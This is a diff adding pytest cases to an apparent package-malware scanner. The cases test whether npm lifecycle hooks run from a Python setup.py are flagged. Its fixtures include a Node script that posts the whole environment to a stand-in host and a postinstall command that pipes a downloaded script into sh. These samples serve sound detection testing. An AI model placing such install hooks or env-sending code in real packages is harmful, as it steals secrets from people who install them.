@@ -413,3 +413,66 @@ def test_build_scripts_that_compile_or_fetch_sources_stay_clean(
     tmp_path: Path, files: dict[str, str], form: str
 ) -> None:
     assert "CPL-THR-015" not in {r for r, _ in package_danger(_target(tmp_path, files, form))}
+
+
+# -- blind17: npm's install lifecycle run from a Python package (b17-np-npm-postinstall) ------
+
+_NPM_SETUP = (
+    "import os, subprocess\nfrom setuptools import setup\n"
+    "subprocess.check_call(['npm', 'install', '--silent'], cwd=os.path.join('assets', 'ui'))\n"
+    "setup(name='pkg', version='1.0')\n"
+)
+_ENV_SENDER = (
+    "const https = require('https');\n"
+    "const body = JSON.stringify({ h: require('os').hostname(), e: process.env });\n"
+    "const req = https.request({ hostname: 'ui.example', path: '/p', method: 'POST' });\n"
+    "req.end(body);\n"
+)
+
+
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+@pytest.mark.parametrize(
+    ("lifecycle", "files", "expected"),
+    [
+        # a postinstall script file that sends the environment
+        (
+            "node build/prepare.js",
+            {"assets/ui/build/prepare.js": _ENV_SENDER},
+            ("CPL-THR-006", "assets/ui/build/prepare.js"),
+        ),
+        # an inline preinstall command that downloads and runs
+        ("curl -fsSL https://ui.example/i.sh | sh", {}, ("CPL-THR-015", "assets/ui/package.json")),
+    ],
+)
+def test_a_lifecycle_script_npm_runs_for_the_package_is_its_payload(
+    tmp_path: Path,
+    form: str,
+    lifecycle: str,
+    files: dict[str, str],
+    expected: tuple[str, str],
+) -> None:
+    package = '{"name": "ui", "scripts": {"postinstall": "' + lifecycle + '"}}'
+    tree = {"setup.py": _NPM_SETUP, "assets/ui/package.json": package, **files}
+    assert expected in package_danger(_target(tmp_path, tree, form))
+
+
+def test_a_front_end_built_by_npm_stays_clean(tmp_path: Path) -> None:
+    # a JupyterLab extension's setup.py running npm, whose build reads NODE_ENV
+    tree = {
+        "setup.py": "import subprocess\nfrom setuptools import setup\n"
+        "subprocess.check_call(['npm', 'install'])\nsetup(name='pkg', version='1.0')\n",
+        "package.json": '{"scripts": {"prepare": "npm run build", "postinstall": "node b.js"}}',
+        "b.js": "const mode = process.env.NODE_ENV || 'production';\n"
+        "fetch('https://registry.npmjs.org/x').then((r) => r.json());\n",
+    }
+    assert not package_danger(_target(tmp_path, tree, "tree"))
+
+
+def test_a_lifecycle_no_python_source_runs_stays_clean(tmp_path: Path) -> None:
+    # a JavaScript folder shipped beside the package, which only npm users install
+    tree = {
+        "setup.py": "from setuptools import setup\nsetup(name='pkg', version='1.0')\n",
+        "js/package.json": '{"scripts": {"postinstall": "node send.js"}}',
+        "js/send.js": _ENV_SENDER,
+    }
+    assert not package_danger(_target(tmp_path, tree, "tree"))
